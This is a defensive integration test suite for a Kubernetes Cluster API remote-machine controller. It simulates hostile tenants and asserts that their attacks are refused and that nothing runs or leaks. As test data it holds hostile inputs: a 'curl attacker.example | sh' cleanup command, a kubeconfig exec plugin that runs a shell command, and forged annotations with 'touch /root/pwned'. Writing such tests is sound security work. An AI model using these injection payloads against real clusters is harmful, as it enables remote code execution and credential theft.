/**
 * Hostile tenants against the real bed (API server with the shipped admission policies, Cluster
 * API, the controller as its ServiceAccount, sshd hosts): each hole of the security review a
 * namespace tenant could use is tried, and the test asserts what a user sees (a condition with a
 * reason naming the field, an Event), that nothing ran (marker files absent, nothing on the
 * machines), that nothing leaked (logs, Events, status), and that a legitimate machine of the
 * same namespace provisions all the while.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { existsSync, readFileSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { after, before, describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import { type KeyPair, makeKeyPair, sshKeySecret } from "../bed/fixtures.js";
import { countLines, createHost, destroyHost, hostExec, readHostFile, type TestHost } from "../bed/hosts.js";
import { canMakeHosts } from "../bed/index.js";
import { waitFor } from "../bed/util.js";
import { useBed } from "../integration/helpers.js";
import {
  type Any,
  ControllerProcess,
  INFRA,
  makeCluster,
  makeMachine,
  objects,
  rest,
  testBootstrap,
  testNode,
} from "./harness.js";

const RUNS = "/var/log/capi-remote-test-runs";
/** In the victim's bootstrap data: must never reach another address, a log, an Event or a status. */
const CANARY = "CLUSTER-CA-PRIVATE-KEY-5b1e9c0d7a";
/** The token of the hostile kubeconfig: must never appear in logs, Events or status either. */
const KC_TOKEN = "hostile-kubeconfig-token-4c8d2e";
/** M5: unnamed Secrets in the namespace, and the data each holds. */
const NOISE = 30;
const NOISE_BYTES = 256 * 1024;

describe("adversarial tenant", { skip: canMakeHosts() ? false : "test hosts need root" }, () => {
  const t = useBed("advt");
  let ctl: ControllerProcess;
  let victim: TestHost;
  let attacker: TestHost;
  let poolHost: TestHost;
  let nodeHost: TestHost;
  let chattyHost: TestHost;
  let key: KeyPair;
  let o: ReturnType<typeof objects>;
  let listener: Server;
  const requests: string[] = [];
  let port = 0;
  const marker = `/tmp/capi-remote-advt-exec-${process.pid}`;
  /** Nodes this suite made in the (shared, cluster-scoped) workload cluster: removed at the end. */
  const nodesMade: string[] = [];
  const makeNode = async (name: string, labels: Record<string, string>, address?: string) => {
    nodesMade.push(name);
    await rest(t.bed, "POST", "/api/v1/nodes", {
      ...testNode(name),
      metadata: { name, labels },
      ...(address ? { status: { addresses: [{ type: "InternalIP", address }] } } : {}),
    });
  };

  before(async () => {
    o = objects(t.bed, t.ns);
    key = await makeKeyPair("ed25519");
    [victim, attacker, poolHost, nodeHost, chattyHost] = await Promise.all([
      createHost("advt-victim", [key.publicKey]),
      // The attacker's own machine accepts the namespace's key: the data would be run there.
      createHost("advt-attacker", [key.publicKey]),
      createHost("advt-pool", [key.publicKey]),
      createHost("advt-node", [key.publicKey]),
      createHost("advt-chatty", [key.publicKey]),
    ]);
    listener = createServer((req, res) => {
      requests.push(`${req.method} ${req.url} ${req.headers.authorization ?? "-"}`);
      res.writeHead(500).end();
    });
    await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
    port = (listener.address() as { port: number }).port;
    rmSync(marker, { force: true });
    await o.apply([sshKeySecret(t.ns, "ssh-key", key)]);
    // M5: Secrets no machine names (a Helm release among them), there before the controller lists.
    for (let i = 0; i < NOISE; i++)
      await rest(t.bed, "POST", `/api/v1/namespaces/${t.ns}/secrets`, {
        metadata: { name: `noise-${i}` },
        type: i === 0 ? "helm.sh/release.v1" : "Opaque",
        data: { blob: randomBytes(NOISE_BYTES).toString("base64") },
      });
    await makeCluster(t.bed, t.ns, "c1");
    ctl = new ControllerProcess(t.bed, t.ns, "advt");
    await ctl.start();
  });
  after(async () => {
    await ctl?.stop();
    listener?.close();
    rmSync(marker, { force: true });
    for (const n of nodesMade) await rest(t.bed, "DELETE", `/api/v1/nodes/${n}`).catch(() => undefined);
    await Promise.all([victim, attacker, poolHost, nodeHost, chattyHost].filter(Boolean).map((h) => destroyHost(h)));
  });

  const waitReady = (name: string, reason: string, type = "Ready", timeoutMs = 30_000) =>
    waitFor(
      `${name}: ${type}=${reason}`,
      async () => {
        const rm = await o.rm(name);
        const c = o.condition(rm, type);
        if (c?.reason === reason) return { rm, c: c as Any };
        throw new Error(`conditions now ${JSON.stringify(rm.status?.conditions?.map((x: Any) => [x.type, x.reason]))}`);
      },
      { timeoutMs, intervalMs: 200 },
    );
  const hasEvent = (name: string, reason: string) =>
    waitFor(
      `${name}: Event ${reason}`,
      async () => {
        const e = (await o.events(name)).find((x) => x.reason === reason);
        if (!e) throw new Error("none yet");
        return e;
      },
      { timeoutMs: 10_000 },
    );
  const forbidden = async (what: string, p: Promise<unknown>, message: RegExp) => {
    const err = await p.then(
      () => undefined,
      (e: unknown) => e as Error,
    );
    assert.ok(err, `${what} was admitted`);
    assert.match(String(err.message), message, what);
  };

  it("a legitimate machine provisions (the baseline every attack below must leave alone)", async () => {
    await makeMachine(
      t.bed,
      t.ns,
      "legit-0",
      "c1",
      { address: victim.address, sshKeyRef: { name: "ssh-key" } },
      testBootstrap(t.bed, { extra: `  - echo "${CANARY}" > /root/ca.key\n` }),
    );
    await o.waitProvisioned("legit-0", 90_000);
    assert.equal(await countLines(victim, RUNS, "run"), 1);
  });

  it("M5: the controller reads and holds only the Secrets its machines name", async () => {
    // One more unnamed Secret after the list: it comes through the watch.
    await rest(t.bed, "POST", `/api/v1/namespaces/${t.ns}/secrets`, {
      metadata: { name: "noise-late" },
      data: { blob: randomBytes(NOISE_BYTES).toString("base64") },
    });
    await new Promise((r) => setTimeout(r, 1000));
    const text = await ctl.metricsText();
    assert.match(text, /^capi_remote_secret_copies \d+$/m, "the controller reports the Secrets it holds");
    const copies = await ctl.metric("capi_remote_secret_copies");
    const bytes = await ctl.metric("capi_remote_secret_copy_bytes");
    const noise = ((NOISE + 1) * NOISE_BYTES * 4) / 3;
    console.log(
      `# ${NOISE + 1} unnamed Secrets with ${(noise / 2 ** 20).toFixed(1)} MiB of data in the namespace: the controller holds ${copies} Secrets with data (${bytes} bytes)`,
    );
    // legit-0 names its SSH key, its bootstrap data and its cluster's kubeconfig: those, at most.
    assert.ok(copies >= 2 && copies <= 3, `${copies} Secrets held`);
    assert.ok(bytes < (NOISE_BYTES * 4) / 3, `${bytes} bytes held: an unnamed Secret was read`);
  });

  it("M5: bootstrap data whose words would take more than the limit is not read: SecretNotRead, an Event, nothing run", async () => {
    // Under 1 MiB as stored; its gzip-encoded file decodes to 140,000 distinct words (18 MiB by weight).
    const words = Array.from({ length: 140_000 }, (_, i) => `w${i.toString(36).padStart(11, "0")}`).join("\n");
    const value = `#cloud-config\nwrite_files:\n  - path: /root/words\n    encoding: gz+b64\n    content: ${gzipSync(words).toString("base64")}\nruncmd:\n  - echo "run $(date +%s%N)" >> ${RUNS}\n`;
    assert.ok(value.length < 2 ** 20, `${value.length} bytes`);
    const runs = await countLines(attacker, RUNS, "run");
    await makeMachine(
      t.bed,
      t.ns,
      "wordy-0",
      "c1",
      { address: attacker.address, sshKeyRef: { name: "ssh-key" } },
      value,
    );
    const { c } = await waitReady("wordy-0", "SecretNotRead");
    assert.match(
      c.message,
      /^bootstrap data Secret wordy-0-bootstrap is not used \(capi-remote did not read it: its words .* would take 1[0-9.]+ MiB, over the 16\.0 MiB it keeps of one Secret\)$/,
    );
    const e = await hasEvent("wordy-0", "SecretNotRead");
    assert.equal(e.type, "Warning");
    assert.equal(await countLines(attacker, RUNS, "run"), runs, "nothing ran");
    const weight = await ctl.metric("capi_remote_redaction_word_bytes");
    console.log(
      `# refused in ${value.length} bytes of data; the words held weigh ${(weight / 2 ** 20).toFixed(2)} MiB`,
    );
    assert.ok(weight < 2 ** 20, "the refused Secret's words were not learned");
  });

  it("H6: an owner reference to a Machine that does not name it back gets nothing of that Machine", async () => {
    const m = await o.machine("legit-0");
    await o.apply([
      {
        apiVersion: `${INFRA}/v1beta2`,
        kind: "RemoteMachine",
        metadata: {
          name: "innocent",
          ownerReferences: [
            { apiVersion: "cluster.x-k8s.io/v1beta2", kind: "Machine", name: "legit-0", uid: m.metadata.uid },
          ],
        },
        spec: { address: attacker.address, sshKeyRef: { name: "ssh-key" } },
      },
    ]);
    const { c } = await waitReady("innocent", "OwnerMachineMismatch");
    assert.match(c.message, /Machine legit-0's spec\.infrastructureRef names RemoteMachine legit-0/);
    const e = await hasEvent("innocent", "OwnerMachineMismatch");
    assert.equal(e.type, "Warning");
    // Nothing ran on (so nothing was sent to) the attacker's machine, and no start was recorded.
    assert.equal(await countLines(attacker, RUNS, "run"), 0);
    assert.equal(await readHostFile(attacker, "/root/ca.key"), undefined);
    const rm = await o.rm("innocent");
    assert.equal(rm.metadata.annotations?.["remote.infrastructure.cluster.x-k8s.io/bootstrap-started"], undefined);
  });

  it("C1: a workload kubeconfig with an exec plugin is never executed by the controller; the condition names the field", async () => {
    // A Cluster with a hostile `<cluster>-kubeconfig`: its exec plugin would record its parent
    // process and its server is a listener of this test.
    await makeCluster(t.bed, t.ns, "evil");
    const hostile = `apiVersion: v1
kind: Config
clusters: [{name: w, cluster: {server: "https://127.0.0.1:${port}", certificate-authority-data: ${Buffer.from(t.bed.controlPlane.caPEM).toString("base64")}}}]
contexts: [{name: w, context: {cluster: w, user: u}}]
current-context: w
users: [{name: u, user: {token: ${KC_TOKEN}, exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: ["-c", "echo $PPID >> ${marker}; echo '{}'"]}}}]
`;
    await o.apply([
      {
        apiVersion: "v1",
        kind: "Secret",
        metadata: { name: "evil-kubeconfig", labels: { "cluster.x-k8s.io/cluster-name": "evil" } },
        type: "cluster.x-k8s.io/secret",
        stringData: { value: hostile },
      },
    ]);
    // A machine of that cluster that claims to be provisioned (fields settable at create): the
    // path to the Node hand-off needs no SSH at all.
    await o.apply([
      {
        apiVersion: "cluster.x-k8s.io/v1beta2",
        kind: "Machine",
        metadata: { name: "rce" },
        spec: {
          clusterName: "evil",
          bootstrap: { dataSecretName: "rce-none" },
          infrastructureRef: { apiGroup: INFRA, kind: "RemoteMachine", name: "rce" },
        },
      },
    ]);
    const machine = await o.machine("rce");
    await o.apply([
      {
        apiVersion: `${INFRA}/v1beta2`,
        kind: "RemoteMachine",
        metadata: {
          name: "rce",
          annotations: { "remote.infrastructure.cluster.x-k8s.io/bootstrap-started": "2026-01-01T00:00:00Z" },
          ownerReferences: [
            { apiVersion: "cluster.x-k8s.io/v1beta2", kind: "Machine", name: "rce", uid: machine.metadata.uid },
          ],
        },
        spec: {
          address: attacker.address,
          sshKeyRef: { name: "ssh-key" },
          providerID: `remote-machine://${attacker.address}:22`,
        },
      },
    ]);
    const { c } = await waitReady("rce", "UnsafeKubeconfig", "NodeProviderIDSet");
    assert.match(
      c.message,
      /Secret evil-kubeconfig refused: users\[0\]\.user\.exec: not accepted \(runs a command in the controller\)/,
    );
    assert.equal((await hasEvent("rce", "UnsafeKubeconfig")).type, "Warning");
    // The controller's process never ran the plugin (Cluster API's manager, another process,
    // reads the same Secret with client-go: its runs, if any, have another parent).
    const ran = existsSync(marker) ? readFileSync(marker, "utf8").trim().split("\n") : [];
    assert.ok(!ran.includes(String(ctl.child?.pid)), `the controller ran the exec plugin (parents: ${ran.join(",")})`);
    if (ran.length) console.log(`# note: another process (pids ${ran.join(",")}) ran the kubeconfig's exec plugin`);
    // And sent nothing with the token: the listener saw no request carrying it from us.
    assert.ok(!requests.some((r) => r.includes(KC_TOKEN)), `requests: ${requests.join("; ")}`);
    assert.equal(await countLines(attacker, RUNS, "run"), 0);
  });

  it("H5 + M9: on a claimed pool machine, the controller's annotations and connection are the controller's alone", async () => {
    await o.apply([
      {
        apiVersion: `${INFRA}/v1beta2`,
        kind: "PooledRemoteMachine",
        metadata: { name: "rack1-07" },
        spec: { pool: "workers", machine: { address: poolHost.address, sshKeyRef: { name: "ssh-key" } } },
      },
    ]);
    // A claim as the pool records it (the admission policy lets an unclaimed machine be claimed).
    await o.patchInfra("pooledremotemachines", "rack1-07", {
      metadata: {
        annotations: {
          "remote.infrastructure.cluster.x-k8s.io/claimed-by": "prod-md-abc12",
          "remote.infrastructure.cluster.x-k8s.io/claimed-by-uid": "0000",
        },
      },
    });
    const asTenant = (annotations: Any) =>
      o.patchInfra("pooledremotemachines", "rack1-07", { metadata: { annotations } });
    await forbidden(
      "quarantined + release on a claimed machine",
      asTenant({
        "remote.infrastructure.cluster.x-k8s.io/quarantined": JSON.stringify({
          commands: ["touch /root/pwned"],
          stateDir: "/etc",
        }),
        "remote.infrastructure.cluster.x-k8s.io/release": "now",
      }),
      /annotation remote\.infrastructure\.cluster\.x-k8s\.io\/quarantined of pool machine rack1-07 is the controller's record/,
    );
    await forbidden(
      "removing claimed-by",
      asTenant({ "remote.infrastructure.cluster.x-k8s.io/claimed-by": null }),
      /claimed-by of pool machine rack1-07 is the controller's record/,
    );
    await forbidden(
      "a host key",
      asTenant({ "remote.infrastructure.cluster.x-k8s.io/host-key": "ssh-ed25519 AAAA" }),
      /host-key of pool machine rack1-07/,
    );
    // Cordon and the release request itself stay open (Lens's actions).
    await o.patchInfra("pooledremotemachines", "rack1-07", { spec: { cordoned: true } });
  });

  it("H5: a release of a quarantined machine never runs the annotation's commands or removes its path", async () => {
    await o.apply([
      {
        apiVersion: `${INFRA}/v1beta2`,
        kind: "PooledRemoteMachine",
        metadata: { name: "rack1-08" },
        spec: { pool: "other", machine: { address: poolHost.address, sshKeyRef: { name: "ssh-key" } } },
      },
    ]);
    await hostExec(poolHost, "mkdir -p /root/important && touch /root/important/keep");
    await o.patchInfra("pooledremotemachines", "rack1-08", {
      metadata: {
        annotations: {
          "remote.infrastructure.cluster.x-k8s.io/quarantined": JSON.stringify({
            reason: "CleanupFailed",
            message: "forged",
            commands: ["touch /root/pwned"],
            stateDir: "/root/important",
          }),
          "remote.infrastructure.cluster.x-k8s.io/release": "now",
        },
      },
    });
    const released = await waitFor(
      "rack1-08 released",
      async () => {
        const p = await o.getInfra("pooledremotemachines", "rack1-08");
        const c = (p.status?.conditions ?? []).find((x: Any) => x.type === "Released");
        if (c?.reason === "QuarantineLifted" || c?.reason === "ReleaseFailed") return c as Any;
        throw new Error(JSON.stringify(p.status?.conditions));
      },
      { timeoutMs: 60_000, intervalMs: 300 },
    );
    assert.equal(released.reason, "QuarantineLifted");
    assert.equal(await readHostFile(poolHost, "/root/pwned"), undefined, "the annotation's command ran");
    assert.notEqual(
      await readHostFile(poolHost, "/root/important/keep"),
      undefined,
      "the annotation's path was removed",
    );
  });

  it("M9: a provisioned RemoteMachine's connection, cleanup and host key cannot be changed", async () => {
    const patch = (body: Any) => o.patchInfra("remotemachines", "legit-0", body);
    await forbidden(
      "address",
      patch({ spec: { address: attacker.address } }),
      /spec\.address of RemoteMachine legit-0 cannot change/,
    );
    await forbidden("sshKeyRef", patch({ spec: { sshKeyRef: { name: "other" } } }), /spec\.sshKeyRef/);
    await forbidden(
      "cleanUpCommands",
      patch({ spec: { cleanUpCommands: ["curl attacker.example | sh"] } }),
      /spec\.cleanUpCommands/,
    );
    await forbidden(
      "clearing the host key (re-arming first-use trust)",
      patch({ metadata: { annotations: { "remote.infrastructure.cluster.x-k8s.io/host-key": null } } }),
      /host-key of RemoteMachine legit-0 is the controller's record/,
    );
    // The cleanup's attempts, once counted, cannot be reset to grant new attempts (the record
    // is set here by the tenant only because it is absent; setting an absent record is allowed).
    const attempts = "remote.infrastructure.cluster.x-k8s.io/cleanup-attempts";
    await patch({ metadata: { annotations: { [attempts]: '{"attempts":1,"notBefore":"2026-01-01T00:00:00Z"}' } } });
    await forbidden(
      "resetting the cleanup attempts",
      patch({ metadata: { annotations: { [attempts]: null } } }),
      /cleanup-attempts of RemoteMachine legit-0 is the controller's record/,
    );
    // Labels and other annotations stay the user's.
    await patch({ metadata: { labels: { team: "a" } } });
  });

  it("M13: Nodes that label themselves with a machine's name or report its address get no provider ID", async () => {
    const name = `m13-${t.ns}`;
    // Rogue Nodes registered before the machine's own: one with both machine-name labels, one
    // reporting the machine's address.
    await makeNode(`${t.ns}-rogue-label`, {
      "cluster.x-k8s.io/machine-name": name,
      "k0smotron.io/machine-name": name,
    });
    await makeNode(`${t.ns}-rogue-addr`, {}, nodeHost.address);
    await makeMachine(
      t.bed,
      t.ns,
      name,
      "c1",
      { address: nodeHost.address, sshKeyRef: { name: "ssh-key" } },
      testBootstrap(t.bed, { registerNode: false }),
    );
    await o.waitProvisioned(name, 90_000);
    const { c } = await waitReady(name, "WaitingForNode", "NodeProviderIDSet");
    assert.match(c.message, /waiting for the machine's Node to register/);
    // The machine's own Node (named as its Machine: a kubelet's credential binds its name) is
    // matched: the matcher was live all along, it just never took the rogues.
    await makeNode(name, {});
    const node = await waitFor(
      `${name}: Node given its provider ID`,
      async () => {
        const n = await rest(t.bed, "GET", `/api/v1/nodes/${name}`);
        if (!n.spec?.providerID) throw new Error("none yet");
        return n;
      },
      { timeoutMs: 30_000, intervalMs: 300 },
    );
    assert.equal(node.spec.providerID, `remote-machine://${nodeHost.address}:22`);
    for (const rogue of [`${t.ns}-rogue-label`, `${t.ns}-rogue-addr`])
      assert.equal((await rest(t.bed, "GET", `/api/v1/nodes/${rogue}`)).spec?.providerID, undefined, rogue);
  });

  it("M8: a step that prints a 200 KiB line and fails still gets its failure recorded (no 422 loop)", async () => {
    await makeMachine(
      t.bed,
      t.ns,
      "chatty",
      "c1",
      { address: chattyHost.address, sshKeyRef: { name: "ssh-key" } },
      "#cloud-config\nruncmd:\n  - head -c 204800 /dev/zero | tr '\\0' x; echo; exit 3\n",
    );
    const { rm, c } = await waitReady("chatty", "BootstrapFailed", "BootstrapExecSucceeded", 60_000);
    assert.equal(rm.status.bootstrap?.phase, "Failed");
    assert.equal(rm.status.bootstrap?.exitCode, 3);
    assert.ok(rm.status.failureMessage.length <= 10240, `failureMessage of ${rm.status.failureMessage.length}`);
    assert.match(rm.status.failureMessage, /failed with exit code 3/);
    assert.ok(c.message.length <= 32768);
    console.log(`# failure message recorded: ${rm.status.failureMessage.length} characters`);
  });

  it("nothing leaked: no canary or kubeconfig token in the controller's log, Events or status", async () => {
    const log = await ctl.log();
    const events = JSON.stringify(await o.allEvents());
    const status = JSON.stringify((await o.list("remotemachines")).map((x) => x.status));
    for (const [where, text] of [
      ["log", log],
      ["Events", events],
      ["status", status],
    ] as const) {
      assert.ok(!text.includes(CANARY), `the bootstrap canary is in the ${where}`);
      assert.ok(!text.includes(KC_TOKEN), `the kubeconfig token is in the ${where}`);
    }
    // The legitimate machine is still provisioned and was bootstrapped once.
    assert.equal((await o.rm("legit-0")).status?.initialization?.provisioned, true);
    assert.equal(await countLines(victim, RUNS, "run"), 1);
  });
});
